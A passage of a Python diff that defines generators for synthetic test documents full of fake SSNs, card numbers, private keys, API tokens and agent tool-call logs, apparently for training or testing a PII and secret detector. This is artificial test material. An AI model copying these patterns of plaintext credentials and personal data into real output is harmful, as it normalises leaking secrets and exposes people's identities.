+def b30_us_medicare(c):
+    return b30_fill("""CMS-40B Application for Enrollment in Medicare Part B - worksheet
+1. Name: «name»
+2. Medicare number: «mbi»
+3. Social Security Number: «ssn»
+4. Date of birth: «dob»
+5. Phone: «ph»
+Employer group health plan ended: «end»
+Questions? email «em»
+""", name=c.name, mbi=f"{c.r.randint(1, 9)}{rnd(c.r, 'ACDEFGHJKMNPQRTUVWXY', 1)}{rnd(c.r, 'ACDEFGHJKMNPQRTUVWXY0123456789', 1)}{c.r.randint(0, 9)}-{rnd(c.r, 'ACDEFGHJKMNPQRTUVWXY', 1)}{rnd(c.r, 'ACDEFGHJKMNPQRTUVWXY0123456789', 1)}{c.r.randint(0, 9)}-{rnd(c.r, 'ACDEFGHJKMNPQRTUVWXY', 2)}{c.r.randint(10, 99)}",
+        ssn=c.ssn(), dob=B30L("DATE_OF_BIRTH", b30_date(c.r, "en_US", 1955, 1961)), ph=c.ph(other=0), end=b30_date(c.r, "en_US", 2026, 2026), em=c.myem())
+
+
+def b30_us_mortgage(c):
+    co = c.person()
+    return b30_fill("""Mortgage pre-approval - borrower information
+Borrower: «name»   DOB «dob»   SSN «ssn»
+Co-borrower: «co»   DOB «dob2»   SSN «ssn2»
+Cell: «ph»   Email: «em»
+Current address: «st», «city» (renting, «yrs» yrs)
+Employer: «emp», since «since»
+Authorization: I authorize «lender» to pull my credit report. Loan #«loan»
+""", name=c.name, dob=c.dob(), ssn=c.ssn(), co=co, dob2=c.dob(), ssn2=c.ssn(), ph=c.ph(other=0), em=c.myem(), st=c.street(), city=c.city(), yrs=c.r.randint(1, 9),
+        emp=c.f.company(), since=b30_date(c.r, "en_US", 2010, 2024), lender=c.pick("Rocket Mortgage", "Guild Mortgage", "a local credit union"), loan=rnd(c.r, string.digits, 10))
+
+
+def b30_us_cobra(c):
+    return b30_fill("""COBRA Continuation Coverage Election Form
+Qualified beneficiary: «name»      Date of birth: «dob»      SSN: «ssn»
+Dependent: «dep»                    Date of birth: «dob2»     SSN: «ssn2»
+Qualifying event: termination of employment on «qe»
+Plan: «plan»   Premium due: $«prem»/month
+Pay online with card «card» exp «exp» CVV «cvc»
+Contact: «ph» / «em»
+""", name=c.name, dob=c.dob(), ssn=c.ssn(), dep=c.person(), dob2=B30L("DATE_OF_BIRTH", b30_date(c.r, "en_US", 2008, 2022)), ssn2=c.ssn(), qe=b30_date(c.r, "en_US", 2026, 2026),
+        plan=c.pick("Aetna PPO 500", "BCBS HMO Silver", "UHC Choice Plus"), prem=f"{c.r.randint(400, 2200)}.{c.r.randint(0, 99):02d}", card=(cd := c.card()),
+        exp=b30_exp(c.r), cvc=c.cvc(cd), ph=c.ph(other=0), em=c.myem())
+
+
+def b30_us_jury(c):
+    return b30_fill("""Juror Qualification Questionnaire - Juror ID «jid»
+Name: «name»
+Date of birth: «dob»
+Last four of SSN: «l4»    (full SSN, required for the county record: «ssn»)
+Daytime phone: «ph»
+Email: «em»
+Reporting date: «rep»   Courtroom «room»
+""", jid=rnd(c.r, string.digits, 9), name=c.name, dob=c.dob(), l4=rnd(c.r, string.digits, 4), ssn=c.ssn(), ph=c.ph(other=0), em=c.myem(),
+        rep=b30_date(c.r, "en_US", 2027, 2027), room=c.r.randint(101, 540))
+
+
+def b30_us_realid(c):
+    return b30_fill("""DMV appointment confirmation - REAL ID
+Confirmation #: «conf»
+Customer: «name»   DOB: «dob»
+SSN (for verification): «ssn»
+Documents: passport, SSA-1099, utility bill
+Appointment: «appt»  «office» office
+Reminders will be texted to «ph». Need to reschedule? «em»
+""", conf=rnd(c.r, string.ascii_uppercase + string.digits, 8), name=c.name, dob=c.dob(), ssn=c.ssn(), appt=b30_date(c.r, "en_US", 2027, 2027) + " 9:40 AM",
+        office=c.city(), ph=c.ph(other=0, variants=["national", "e164"]), em=c.myem())
+
+
+def b30_us_beneficiary(c):
+    return b30_fill("""Life Insurance - Beneficiary Designation / Change
+Policy number: «pol»   Insured: «name» (DOB «dob», SSN «ssn»)
+Primary beneficiary: «b1», spouse, 100%, SSN «ssn1», DOB «dob1», phone «ph1»
+Contingent beneficiary: «b2», child, 100%, DOB «dob2»
+Owner email: «em»
+""", pol=c.la(19), name=c.name, dob=c.dob(), ssn=c.ssn(), b1=c.person(), ssn1=c.ssn(), dob1=c.dob(), ph1=c.ph(other=0), b2=c.person(),
+        dob2=B30L("DATE_OF_BIRTH", b30_date(c.r, "en_US", 2005, 2020)), em=c.myem())
+
+
+def b30_us_workcomp(c):
+    return b30_fill("""First Report of Injury (workers' compensation)
+Employee: «name»   SSN: «ssn»   Date of birth: «dob»
+Home phone: «ph»   Date of injury: «doi»
+Employer: «emp», contact «hr» («hrem»)
+Description: slipped on wet floor in loading dock, left wrist. Claim «claim».
+""", name=c.name, ssn=c.ssn(), dob=c.dob(), ph=c.ph(other=0), doi=b30_date(c.r, "en_US", 2026, 2026), emp=c.f.company(), hr=c.person(), hrem=c.em(), claim=c.la(19))
+
+
+def b30_us_freeze(c):
+    return b30_fill("""To: Equifax Information Services, P.O. Box 105788, Atlanta, GA 30348
+Re: Request for a security freeze
+
+Please place a security freeze on my credit file.
+Full name: «name»
+Social Security number: «ssn»
+Date of birth: «dob»
+Current address: «st», «city»
+Phone: «ph»   Email: «em»
+Enclosed: copy of driver's license and utility bill. A previous PIN «pin» should be voided.
+""", name=c.name, ssn=c.ssn(c.pick("dash", "space")), dob=c.dob(), st=c.street(), city=c.city(), ph=c.ph(other=0), em=c.myem(), pin=B30L("GENERIC_SECRET", rnd(c.r, string.digits, 10)))
+
+
+def b30_us_4506(c):
+    return b30_fill("""Form 4506-C (IVES Request for Transcript of Tax Return) - data for the lender portal
+1a Name shown on tax return: «name»    1b SSN: «ssn»
+2a Spouse: «sp»    2b Spouse SSN: «ssn2»
+3 Current address: «st», «city»
+5a IVES participant: «ives»   Customer file number: «cfn»
+Tax years requested: 2024, 2025. Taxpayer phone: «ph»
+""", name=c.name, ssn=c.ssn(), sp=c.person(), ssn2=c.ssn(), st=c.street(), city=c.city(), ives=c.pick("Equifax Workforce Solutions", "Veri-Tax", "Quantrax"),
+        cfn=c.la(19), ph=c.ph(other=0))
+
+
+def b30_us_pslf(c):
+    return b30_fill("""PSLF form - employer certification section, sent to HR
+Borrower name: «name»
+SSN: «ssn»   Date of birth: «dob»
+Borrower email: «em»   Phone: «ph»
+Employer: «emp» (EIN «ein»)  Employment dates: «d1» to present, full-time
+StudentAid.gov login: «em» / «pw»  (please just use this to upload it, I trust you)
+""", name=c.name, ssn=c.ssn(), dob=c.dob(), em=c.myem(), ph=c.ph(other=0), emp=c.pick("County of " + c.city(), c.city() + " Public Schools", "St. Mary's Hospital"),
+        ein=f"{c.r.randint(10, 99)}-{rnd(c.r, string.digits, 7)}", d1=b30_date(c.r, "en_US", 2012, 2022), pw=c.pw())
+
+
+B30_US = [b30_us_w9, b30_us_1099, b30_us_medicare, b30_us_mortgage, b30_us_cobra, b30_us_jury, b30_us_realid, b30_us_beneficiary, b30_us_workcomp,
+          b30_us_freeze, b30_us_4506, b30_us_pslf]
+
+
+def b30_t_expat(c):
+    """Any locale: a US person abroad, so a US SSN turns up outside en_US."""
+    lang = c.lang
+    intro = {"en": "For the US tax return (we file jointly from abroad):", "de": "Für die US-Steuererklärung (wir leben in Deutschland):",
+             "fr": "Pour la déclaration fiscale américaine (nous vivons en France) :", "es": "Para la declaración de impuestos de EE. UU. (vivimos en España):",
+             "it": "Per la dichiarazione dei redditi USA (viviamo in Italia):", "nl": "Voor de Amerikaanse belastingaangifte (wij wonen in Nederland):"}[lang]
+    return b30_fill("""«greet»
+
+«intro»
+- «name», SSN «ssn», «lbdob» «dob»
+- «sp», SSN «ssn2»
+- «lbiban» «ib»
+- «lbph» «ph»
+
+«bye»
+«name»
+""", greet=c.pick(*B30_GREET[lang]), intro=intro, name=c.name, ssn=c.ssn(), lbdob=B30_LBL[lang]["dob"], dob=c.dob(), sp=c.person(), ssn2=c.ssn(),
+        lbiban=B30_LBL[lang]["iban"], ib=c.iban(), lbph=B30_LBL[lang]["phone"], ph=c.ph(), bye=c.pick(*B30_BYE[lang]))
+
+
+# ---------- blind30 more kinds (key files, signing code, decrypted secrets) ----------
+
+def b30_t_tlspaste(c):
+    return b30_fill("""«q»
+
+server.crt:
+«cert»
+
+server.key:
+«key»
+
+nginx -t says: SSL_CTX_use_PrivateKey("/etc/ssl/private/server.key") failed (SSL: error:05800074:x509 certificate routines::key values mismatch)
+Server is «ip», domain «dom». Contact me at «em» if you need access.
+""", q=c.pick("Why does nginx say the key doesn't match the cert? Both files below.", "Certificat et clé ne correspondent pas, voici les fichiers :",
+              "Zertifikat und Schlüssel passen angeblich nicht zusammen, hier beide Dateien:", "Il certificato non corrisponde alla chiave, allego i file:"),
+        cert=b30_cert(c.r), key=c.key("armour", c.pick("RSA PRIVATE KEY", "PRIVATE KEY", "EC PRIVATE KEY")), ip=c.ip4("pub"), dom="shop." + c.pick(*B30_ORGDOM), em=c.em())
+
+
+def b30_t_vercelenv(c):
+    s1, s2 = c.sec(["STRIPE_KEY", "OPENAI_KEY", "SLACK_TOKEN", "JWT"]), c.sec()
+    return b30_fill("""# Created by Vercel CLI
+«n1»="«s1»"
+«n2»="«s2»"
+NEXT_PUBLIC_MAPS_KEY="«gk»"
+FIREBASE_CLIENT_EMAIL="firebase-adminsdk-«x»@«proj».iam.gserviceaccount.com"
+FIREBASE_PRIVATE_KEY="«key»"
+VERCEL_OIDC_TOKEN="«jwt»"
+""", n1=b30_envname(s1), s1=s1, n2=b30_envname(s2) + ("_SECONDARY" if s2.typ == s1.typ else ""), s2=s2, gk=c.v("GOOGLE_API_KEY"), x=rnd(c.r, string.ascii_lowercase + string.digits, 5),
+        proj=c.pick("parkly-prod", "rondo-app", "kitaplan-7f2"), key=c.key("escaped", "PRIVATE KEY"), jwt=c.v("JWT"))
+
+
+def b30_t_jwtsign(c):
+    key = c.key("armour", c.pick("RSA PRIVATE KEY", "PRIVATE KEY", "EC PRIVATE KEY"))
+    return b30_fill("""// scripts/mint-token.js -- «note»
+const jwt = require('jsonwebtoken');
+const privateKey = `«key»`;
+const token = jwt.sign({ sub: '«sub»', email: '«em»' }, privateKey, { algorithm: '«alg»', expiresIn: '1h' });
+console.log(token);
+// output from yesterday's run:
+// «jwt»
+// (the jwt.io sample «ex» decodes fine, ours doesn't?)
+""", note=c.pick("TEMP, remove before merge", "nur lokal", "à supprimer"), key=key,
+        sub=c.la(19), em=c.em(), alg="ES256" if "EC" in key.text[:20] else c.pick("RS256", "PS256"), jwt=c.v("JWT"), ex=B30L("PLACEHOLDER", c.pick(*[p for p in B30_PH if p.startswith("eyJ")])))
+
+
+def b30_t_sops(c):
+    s1, s2 = c.sec(), c.sec(["STRIPE_KEY", "OPENAI_KEY", "ANTHROPIC_KEY", "SLACK_TOKEN", "AWS_ACCESS_KEY"])
+    return b30_fill("""$ sops -d deploy/secrets.enc.yaml
+db:
+    password: «pw»
+«k1»: «s1»
+«k2»: «s2»
+smtp_user: «em»
+signing_key: |
+    «key»
+""", pw=c.pw(safe=True), k1=b30_envname(s1).lower(), s1=s1, k2=b30_envname(s2).lower() + ("_b" if s2.typ == s1.typ else ""), s2=s2, em=c.em(), key=c.key("armour", indent="    "))
+
+
+def b30_t_firebaseadmin(c):
+    return b30_fill("""import admin from "firebase-admin";
+
+admin.initializeApp({
+  credential: admin.credential.cert({
+    projectId: "«proj»",
+    clientEmail: "firebase-adminsdk-«x»@«proj».iam.gserviceaccount.com",
+    privateKey: "«key»",
+  }),
+  databaseURL: "https://«proj»-default-rtdb.europe-west1.firebasedatabase.app",
+});
+const MAPS_KEY = "«gk»";
+""", proj=c.pick("parkly-prod", "rondo-app", "kitaplan-7f2", "marea-eu"), x=rnd(c.r, string.ascii_lowercase + string.digits, 5), key=c.key("escaped", "PRIVATE KEY"), gk=c.v("GOOGLE_API_KEY"))
+
+
+def b30_t_dkim(c):
+    sel = c.pick("mail", "s2026", "default", "k1")
+    dom = c.pick(*B30_ORGDOM)
+    return b30_fill("""# cat /etc/opendkim/keys/«dom»/«sel».private
+«key»
+# cat /etc/opendkim/keys/«dom»/«sel».txt
+«sel»._domainkey	IN	TXT	( "v=DKIM1; h=sha256; k=rsa; "
+	  "p=«pub»" )  ; ----- DKIM key «sel» for «dom»
+# postmaster: «em», mail server «ip» / «v6»
+""", dom=dom, sel=sel, key=c.key("armour", "RSA PRIVATE KEY"), pub=b64blob(c.r, 160), em=c.em(), ip=c.ip4("pub"), v6=c.ip6("glob"))
+
+
+def b30_t_stripecli(c):
+    sk = c.v("STRIPE_KEY")
+    return b30_fill("""$ cat ~/.config/stripe/config.toml
+[default]
+  device_name = "«dev»"
+  display_name = "«org»"
+  live_mode_api_key = "«sk»"
+  test_mode_api_key = "«tk»"
+  test_mode_pub_key = "pk_test_«pk»"
+$ stripe customers list --limit 1 --api-key «sk»
+{ "id": "cus_«cid»", "email": "«em»", "phone": "«ph»" }
+""", dev=c.pick("MacBook-Pro", "dev-laptop", "ws-" + rnd(c.r, HEX, 4)), org=c.f.company().replace('"', ""), sk=sk, tk=B30L("STRIPE_KEY", "sk_test_51" + rnd(c.r, AN, 97)),
+        pk="51" + rnd(c.r, AN, 97), cid=rnd(c.r, AN, 14), em=c.em(), ph=c.ph(variants=["e164"]))
+
+
+def b30_j_retool(c):
+    return {"resource": {"name": c.pick("prod_postgres", "stripe_live", "openai"), "type": c.pick("postgresql", "restapi"),
+                         "options": {"host": c.ip4("p10"), "username": "retool", "password": c.pw(safe=True),
+                                     "headers": [{"key": "Authorization", "value": b30_j("Bearer «s»", s=c.sec(["STRIPE_KEY", "OPENAI_KEY", "ANTHROPIC_KEY", "JWT"]))}]}},
+            "editedBy": c.em(), "updatedAt": c.ts()}
+
+
+def b30_j_zapier(c):
+    s = c.sec(["SLACK_TOKEN", "STRIPE_KEY", "GITHUB_TOKEN", "OPENAI_KEY", "JWT", "ANTHROPIC_KEY", "AWS_ACCESS_KEY", "SLACK_TOKEN"])
+    return {"id": c.r.randint(10 ** 8, 10 ** 9), "app": {"slug": {"SLACK_TOKEN": "slack", "STRIPE_KEY": "stripe", "GITHUB_TOKEN": "github", "OPENAI_KEY": "openai", "JWT": "webhooks",
+                                                                  "ANTHROPIC_KEY": "anthropic", "AWS_ACCESS_KEY": "amazon-s3"}[s.typ]},
+            "title": c.pick("Ops workspace", "Live account", "Bot"), "auth_fields": {"access_token": s, "account_email": c.em()},
+            "docs_example": c.phd(), "created": c.ts()}
+
+
+def b30_j_langsmith(c):
+    s = c.sec(["OPENAI_KEY", "ANTHROPIC_KEY", "GOOGLE_API_KEY", "JWT", "GITHUB_TOKEN", "SLACK_TOKEN", "AWS_ACCESS_KEY"])
+    return {"id": c.la(9), "name": c.pick("ChatOpenAI", "ChatAnthropic", "search_tool", "sql_tool"), "run_type": c.pick("llm", "tool"),
+            "inputs": {"input": b30_j("Use key «s» to fetch the report for «em»", s=s, em=c.em())},
+            "outputs": {"output": b30_j("Report sent to «em2» from «ip»", em2=c.em(), ip=c.ip4("pub"))}, "start_time": c.ts(), "session_name": "default"}
+
+
+# ---------- blind30 JSON documents (no backslash, quote or control character inside any string) ----------
+
+def b30_j(tmpl, **v):
+    parts = b30_fill(tmpl, **v)
+    return parts[0] if len(parts) == 1 and isinstance(parts[0], L) else parts
+
+
+def b30_arr(items):
+    """A JSON array of strings for Writer.json (a list of one-part lists)."""
+    return [it if isinstance(it, list) else [it] for it in items]
+
+
+def b30_j_cchook(c):
+    k = c.r.choice([0, 0, 1, 2, 2])
+    if k == 0:
+        cmd = b30_j("curl -s https://api.anthropic.com/v1/messages -H x-api-key:«ak» -H anthropic-version:2023-06-01 -d @req.json", ak=c.v("ANTHROPIC_KEY"))
+    elif k == 1:
+        cmd = b30_j("PGPASSWORD=«pw» psql -h «ip» -U app -c select+1", pw=c.pw(safe=True), ip=c.ip4("p10"))
+    else:
+        cmd = b30_j("gh auth login --with-token <<< «gh»", gh=c.v("GITHUB_TOKEN"))
+    return {"session_id": c.la(9), "transcript_path": "/home/" + b30_ascii(c.first) + "/.claude/projects/app/" + c.la(9) + ".jsonl", "cwd": "/srv/app",
+            "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": cmd, "description": ["Call the Messages API", "Check the DB", "Log in to GitHub"][k]}}
+
+
+def b30_j_mcpresource(c):
+    s1 = c.sec()
+    text = b30_j("# .env (production)  DB_URL=postgres://app:«pw»@«ip»:5432/app  «n1»=«s1»  MAIL_FROM=«em»  ADMIN_PHONE=«ph»",
+                 pw=c.pw(safe=True), ip=c.ip4("p10"), n1=b30_envname(s1), s1=s1, em=c.em(), ph=c.ph())
+    return {"jsonrpc": "2.0", "id": c.r.randint(1, 500), "result": {"contents": [{"uri": "file:///srv/app/.env", "mimeType": "text/plain", "text": text}]}}
+
+
+def b30_j_agentspan(c):
+    card = c.card()
+    return {"object": "trace.span", "id": "span_" + rnd(c.r, HEX, 24), "trace_id": "trace_" + rnd(c.r, HEX, 32), "started_at": c.ts(),
+            "span_data": {"type": "function", "name": c.pick("charge_card", "book_table", "refund_order"),
+                          "input": b30_j("{card: «card», cvc: «cvc», email: «em», amount: «amt», stripe_key: «sk»}", card=card, cvc=c.cvc(card), em=c.em(), amt=c.r.randint(5, 400),
+                                         sk=c.v("STRIPE_KEY")),
+                          "output": c.pick("approved", "declined: do_not_honor", "ok " + c.la(0))}}
+
+
+def b30_j_autogen(c):
+    return {"source": c.pick("assistant", "ops_agent"), "models_usage": {"prompt_tokens": c.r.randint(100, 4000), "completion_tokens": c.r.randint(10, 400)},
+            "model_client": {"provider": "autogen_ext.models.openai.OpenAIChatCompletionClient", "config": {"model": "gpt-4o", "api_key": c.v("OPENAI_KEY")}},
+            "type": "ToolCallRequestEvent", "content": [{"id": "call_" + rnd(c.r, AN, 24), "name": "send_sms",
+                                                         "arguments": b30_j("{to: «ph», body: Your code is «otp». Account «em»}", ph=c.ph(), otp=rnd(c.r, string.digits, 6), em=c.em())}]}
+
+
+def b30_j_crewai(c):
+    return {"event": "tool_usage_finished", "agent_role": c.pick("Research Analyst", "Billing Agent", "IT Support"),
+            "llm": {"model": c.pick("anthropic/claude-sonnet-4-5", "anthropic/claude-haiku-4-5"), "api_key": c.v("ANTHROPIC_KEY")}, "tool_name": c.pick("Database Query", "Send Email", "Http Request"),
+            "tool_args": {"query": b30_j("SELECT * FROM users WHERE email = «em»", em=c.em()), "connection": b30_j("mysql://root:«pw»@«ip»/crm", pw=c.pw(safe=True), ip=c.ip4("p10"))},
+            "output": b30_j("1 row: «nm», «ph», born «dob»", nm=c.person(), ph=c.ph(), dob=c.dob("iso")), "timestamp": c.ts()}
+
+
+def b30_j_llamaindex(c):
+    return {"tool_name": "lookup_customer", "raw_input": {"args": [], "kwargs": {"customer_id": c.la(19)}},
+            "content": b30_j("Customer «nm», IBAN «ib», phone «ph», e-mail «em»", nm=c.person(), ib=c.iban(), ph=c.ph(), em=c.em()), "is_error": False}
+
+
+def b30_j_mistral(c):
+    s1 = c.sec(["GITHUB_TOKEN", "SLACK_TOKEN", "STRIPE_KEY", "GOOGLE_API_KEY", "AWS_ACCESS_KEY", "JWT"])
+    return {"id": rnd(c.r, HEX, 32), "object": "chat.completion", "model": "mistral-large-latest", "created": B30_EPOCH - c.r.randint(0, 86400),
+            "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {"role": "assistant", "content": "",
+                         "tool_calls": [{"id": rnd(c.r, AN, 9), "type": "function", "function": {"name": "store_secret",
+                                         "arguments": {"name": b30_envname(s1), "value": s1, "owner": c.em()}}}]}}]}
+
+
+def b30_j_jira(c):
+    return {"id": str(c.r.randint(10000, 99999)), "key": c.pick("OPS", "IT", "SEC", "HELP") + "-" + str(c.r.randint(100, 9999)),
+            "fields": {"summary": c.pick("VPN access for new hire", "Printer in 3rd floor", "Reset MFA", "Konto gesperrt", "Accès VPN"),
+                       "reporter": {"displayName": c.name, "emailAddress": c.myem()},
+                       "description": b30_j("New starter «nm», mobile «ph». Temp password «pw», set on «ip».", nm=c.person(), ph=c.ph(), pw=c.pw(safe=True), ip=c.ip4("p10")),
+                       "created": c.ts(), "priority": {"name": c.pick("Medium", "High")}}}
+
+
+def b30_j_intercom(c):
+    card = c.card()
+    return {"type": "conversation", "id": str(c.r.randint(10 ** 11, 10 ** 12)), "created_at": B30_EPOCH - c.r.randint(0, 86400 * 5),
+            "source": {"type": "conversation", "author": {"type": "user", "email": c.myem(), "name": c.name},
+                       "body": b30_j("<p>«t» «card» «t2» «exp» / «cvc»</p>", t=c.pick("My card was charged twice, number", "Meine Karte wurde doppelt belastet:", "Ma carte a été débitée deux fois :"),
+                                     card=card, t2=c.pick("exp", "gültig bis", "exp."), exp=b30_exp(c.r), cvc=c.cvc(card))},
+            "custom_attributes": {"order": c.la(0), "plan": c.pick("pro", "team")}}
+
+
+def b30_j_freshdesk(c):
+    return {"id": c.r.randint(10 ** 9, 10 ** 10), "name": c.name, "email": c.myem(), "phone": c.ph(), "mobile": c.ph(), "twitter_id": None,
+            "address": c.street() + ", " + c.city(), "custom_fields": {"date_of_birth": c.dob("iso"), "customer_no": c.la(19), "iban": c.iban()},
+            "created_at": c.ts(), "language": c.lang}
+
+
+def b30_j_shopify(c):
+    return {"customer": {"first_name": c.first, "last_name": c.last, "email": c.myem(), "phone": c.ph(variants=["e164"]), "verified_email": True,
+                         "addresses": [{"address1": c.street(), "city": c.city(), "country_code": REGION[c.loc], "phone": c.ph()}],
+                         "note": b30_j("Birthday «dob» - send voucher. Old account pw «pw»", dob=c.dob(), pw=c.pw(safe=True)),
+                         "tags": "vip, " + c.la(3), "accepts_marketing": True}}
+
+
+def b30_j_adyen(c):
+    card = b30_card(c.r, "plain")
+    return {"amount": {"currency": "EUR", "value": c.r.randint(500, 90000)}, "reference": c.la(0), "merchantAccount": c.pick("KestrelECOM", "TesseraPOS"),
+            "paymentMethod": {"type": "scheme", "number": card, "expiryMonth": f"{c.r.randint(1, 12):02d}", "expiryYear": str(c.r.randint(2027, 2031)),
+                              "cvc": c.cvc(card), "holderName": c.name},
+            "shopperEmail": c.myem(), "shopperIP": c.pick(c.ip4("pub"), c.ip6("glob")), "telephoneNumber": c.ph(),
+            "dateOfBirth": c.dob("iso"), "returnUrl": "https://shop." + c.pick(*B30_ORGDOM) + "/checkout/return"}
+
+
+def b30_j_gocardless(c):
+    return {"customer_bank_accounts": {"id": "BA" + rnd(c.r, string.ascii_uppercase + string.digits, 12), "account_holder_name": c.name, "iban": c.iban(style="plain"),
+                                       "country_code": REGION[c.loc], "currency": "EUR", "links": {"customer": "CU" + rnd(c.r, string.ascii_uppercase + string.digits, 12)}},
+            "customer": {"email": c.myem(), "phone_number": c.ph(variants=["e164"]), "given_name": c.first, "family_name": c.last}}
+
+
+def b30_j_wise(c):
+    return {"currency": "EUR", "type": "iban", "profile": c.r.randint(10 ** 7, 10 ** 8), "accountHolderName": c.person(), "ownedByCustomer": False,
+            "details": {"legalType": "PRIVATE", "IBAN": c.iban(style="plain"), "email": c.em(), "address": {"city": c.city(), "countryCode": REGION[c.loc]}},
+            "reference": c.la(2), "sourceIban_rejected": c.la(11)}
+
+
+def b30_j_datadog(c):
+    return {"ddsource": "nodejs", "service": c.pick("checkout", "auth", "notifier"), "hostname": c.host(), "status": c.pick("error", "warn"),
+            "message": b30_j("login failed for «em» from «ip»: password «pw» rejected", em=c.em(), ip=c.pick(c.ip4("pub"), c.ip6("glob")), pw=c.pw(safe=True)),
+            "ddtags": "env:prod,version:" + c.la(3), "http": {"client_ip": c.ip4("pub"), "useragent": "okhttp/4.12.0",
+                                                             "request_headers": {"authorization": b30_j("Bearer «jwt»", jwt=c.v("JWT"))}}, "timestamp": c.ts()}
+
+
+def b30_j_splunk(c):
+    s1 = c.sec()
+    return {"time": B30_EPOCH - c.r.randint(0, 86400), "host": c.host(), "source": "/var/log/app/config-reload.log", "sourcetype": "_json", "index": "main",
+            "event": {"msg": "config reloaded", "key": b30_envname(s1), "value": s1, "user": c.em(), "src_ip": c.ip4("p10")}}
+
+
+def b30_j_cloudtrail(c):
+    ak = c.v("AWS_ACCESS_KEY")
+    return {"eventVersion": "1.09", "userIdentity": {"type": "IAMUser", "principalId": "AIDA" + rnd(c.r, string.ascii_uppercase + "234567", 17),
+                                                     "arn": "arn:aws:iam::" + rnd(c.r, string.digits, 12) + ":user/" + b30_ascii(c.first),
+                                                     "accessKeyId": ak, "userName": b30_ascii(c.first)},
+            "eventTime": c.ts()[:19] + "Z", "eventSource": "s3.amazonaws.com", "eventName": c.pick("GetObject", "PutObject", "ListBuckets"),
+            "awsRegion": "eu-central-1", "sourceIPAddress": c.pick(c.ip4("pub"), c.ip6("glob")), "userAgent": "aws-cli/2.22.4",
+            "requestID": rnd(c.r, "0123456789ABCDEF", 16), "eventID": c.la(9)}
+
+
+def b30_j_firebase(c):
+    users = []
+    for _ in range(c.r.randint(1, 3)):
+        users.append({"localId": rnd(c.r, AN, 28), "email": c.em(), "emailVerified": c.r.random() < 0.7, "phoneNumber": c.ph(variants=["e164"]),
+                      "passwordHash": b64blob(c.r, 64), "salt": b64blob(c.r, 12), "createdAt": str(B30_EPOCH * 1000 - c.r.randint(0, 10 ** 10)),
+                      "customAttributes": b30_j("{birthdate: «dob»}", dob=c.dob("iso"))})
+    return {"projectConfig": {"projectId": c.pick("parkly-prod", "rondo-app", "kitaplan-7f2"), "apiKey": c.v("GOOGLE_API_KEY")}, "users": users}
+
+
+def b30_j_segment(c):
+    return {"type": "identify", "userId": c.la(9), "traits": {"email": c.myem(), "phone": c.ph(), "birthday": c.dob("iso"), "name": c.name,
+                                                             "address": {"city": c.city(), "country": REGION[c.loc]}},
+            "context": {"ip": c.pick(c.ip4("pub"), c.ip6("glob")), "library": {"name": "analytics.js", "version": c.la(3)[1:]}}, "timestamp": c.ts()}
+
+
+def b30_j_sendgrid(c):
+    return {"personalizations": [{"to": [{"email": c.em(), "name": c.person()}], "dynamic_template_data": {"reset_link": "https://app." + c.pick(*B30_ORGDOM) + "/reset?t=" + rnd(c.r, HEX, 32),
+                                                                                                        "temp_password": c.pw(safe=True), "phone": c.ph()}}],
+            "from": {"email": c.em(org=c.pick(*B30_ORGDOM))}, "template_id": "d-" + rnd(c.r, HEX, 32),
+            "_debug": {"api_key_used": c.gen("sendgrid"), "client_ip": c.ip4("p10")}}
+
+
+def b30_j_sms(c):
+    return {"originator": c.pick("KestrelBank", "Tessera", "Parkly"), "recipients": [[c.ph(variants=["e164"])], [c.ph(variants=["e164"])]],
+            "body": b30_j("Hi «nm», your temporary PIN is «otp». Questions? Call «ph»", nm=c.f.first_name(), otp=rnd(c.r, string.digits, 6), ph=c.ph()),
+            "reference": c.la(19), "accessKey": c.gen(c.pick("hex32", "b64"))}
+
+
+def b30_j_greenhouse(c):
+    return {"id": c.r.randint(10 ** 7, 10 ** 8), "first_name": c.first, "last_name": c.last, "company": c.f.company(),
+            "phone_numbers": [{"value": c.ph(), "type": "mobile"}], "email_addresses": [{"value": c.myem(), "type": "personal"}],
+            "attachments": [{"filename": "CV_" + b30_ascii(c.last) + ".pdf", "type": "resume"}],
+            "custom_fields": {"date_of_birth": c.dob(), "github": "https://github.com/" + b30_ascii(c.first)}, "application_ids": [[str(c.r.randint(10 ** 7, 10 ** 8))]]}
+
+
+def b30_j_fnol(c):
+    return {"claimType": c.pick("motor", "home", "travel"), "policyNumber": c.la(19), "lossDate": c.ts("date", 10),
+            "policyholder": {"name": c.name, "dateOfBirth": c.dob(), "phone": c.ph(), "email": c.myem(), "iban": c.iban()},
+            "thirdParty": {"name": c.person(), "phone": c.ph(), "plate": rnd(c.r, string.ascii_uppercase, 2) + "-" + rnd(c.r, string.digits, 3) + "-" + rnd(c.r, string.ascii_uppercase, 2)},
+            "description": b30_j("Rear-ended at a junction, other driver gave number «ph»", ph=c.ph())}
+
+
+def b30_j_pnr(c):
+    card = c.card("plain")
+    pax = []
+    for i in range(c.r.randint(1, 3)):
+        pax.append({"paxId": i + 1, "name": b30_ascii(c.f.last_name()).upper() + "/" + b30_ascii(c.f.first_name()).upper(), "dateOfBirth": c.dob("iso"),
+                    "docs": {"type": "P", "number": rnd(c.r, string.ascii_uppercase, 2) + rnd(c.r, string.digits, 7), "expiry": f"20{c.r.randint(28, 35)}-0{c.r.randint(1, 9)}-1{c.r.randint(0, 9)}"}})
+    return {"recordLocator": rnd(c.r, "ABCDEFGHJKLMNPQRSTUVWXYZ", 6), "passengers": pax,
+            "contact": {"email": c.myem(), "phone": c.ph()}, "formOfPayment": {"type": "CC", "card": card, "cvv": c.cvc(card), "expiry": b30_exp(c.r)},
+            "segments": [{"flight": c.pick("LH", "AF", "IB", "AZ", "KL", "BA", "UA") + str(c.r.randint(10, 9999)), "date": "2027-01-" + f"{c.r.randint(2, 28):02d}"}]}
+
+
+def b30_j_doppler(c):
+    d = {"DATABASE_URL": b30_j("postgresql://app:«pw»@«ip»:5432/app", pw=c.pw(safe=True), ip=c.ip4("p10"))}
+    for _ in range(c.r.randint(2, 4)):
+        s = c.sec()
+        d[b30_envname(s) + ("" if b30_envname(s) not in d else "_2")] = s
+    d["FIREBASE_PRIVATE_KEY"] = c.key("oneline", "PRIVATE KEY") if c.r.random() < 0.75 else c.st()
+    d["DOPPLER_ENVIRONMENT"] = c.pick("prd", "stg")
+    return d
+
+
+def b30_j_op(c):
+    if c.r.random() < 0.4:
+        return {"id": rnd(c.r, string.ascii_lowercase + string.digits, 26), "title": c.pick("deploy key", "GitHub SSH", "bastion"), "category": "SSH_KEY",
+                "vault": {"name": c.pick("Private", "Shared IT")},
